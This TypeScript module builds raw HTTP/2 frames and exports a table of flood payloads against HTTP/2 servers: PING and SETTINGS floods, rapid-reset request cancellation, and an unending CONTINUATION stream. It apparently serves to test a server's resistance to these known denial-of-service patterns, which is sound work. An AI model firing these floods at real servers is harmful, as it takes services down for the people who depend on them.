/** HTTP/2 as bytes, for clients that no library would be. */

/** Types of frames, RFC 9113, 6. */
export const FRAME = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  windowUpdate: 8,
  continuation: 9,
} as const;
const FLAG = { endStream: 1, endHeaders: 4 } as const;

export function http2Frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const word = (text: string): Buffer => Buffer.concat([Buffer.from([text.length]), Buffer.from(text)]);
/** `:method: GET` and `:scheme: https` of HPACK's static table, path and authority as literals. */
const headerBlock = (path: string): Buffer =>
  Buffer.concat([Buffer.from([0x82, 0x87, 0x04]), word(path), Buffer.from([0x01]), word("node")]);

/** A client's first bytes. */
export const http2Preface = (): Buffer =>
  Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), http2Frame(FRAME.settings, 0, 0)]);

/** A request without body; `isWhole` false: its headers go on. */
export const http2Get = (stream: number, path: string, isWhole = true): Buffer =>
  http2Frame(FRAME.headers, FLAG.endStream | (isWhole ? FLAG.endHeaders : 0), stream, headerBlock(path));

const repeated = (count: number, make: (at: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, at) => make(at)));

/** A thousand frames that cost a server more than a client, or whose answers would wait for it. `round` counts from 0. */
export const HTTP2_FLOODS: Readonly<Record<string, (round: number) => Buffer>> = {
  pings: () => repeated(1_000, () => http2Frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  settings: () => repeated(1_000, () => http2Frame(FRAME.settings, 0, 0)),
  "requests that are cancelled at once": (round) =>
    repeated(1_000, (at) => {
      const stream = 2 * (1_000 * round + at) + 1;
      return Buffer.concat([
        http2Get(stream, "/healthz"),
        http2Frame(FRAME.reset, 0, stream, Buffer.from([0, 0, 0, 8])),
      ]);
    }),
  "headers without end": (round) =>
    Buffer.concat([
      round === 0 ? http2Get(1, "/healthz", false) : Buffer.alloc(0),
      repeated(1_000, () => http2Frame(FRAME.continuation, 0, 1)),
    ]),
};
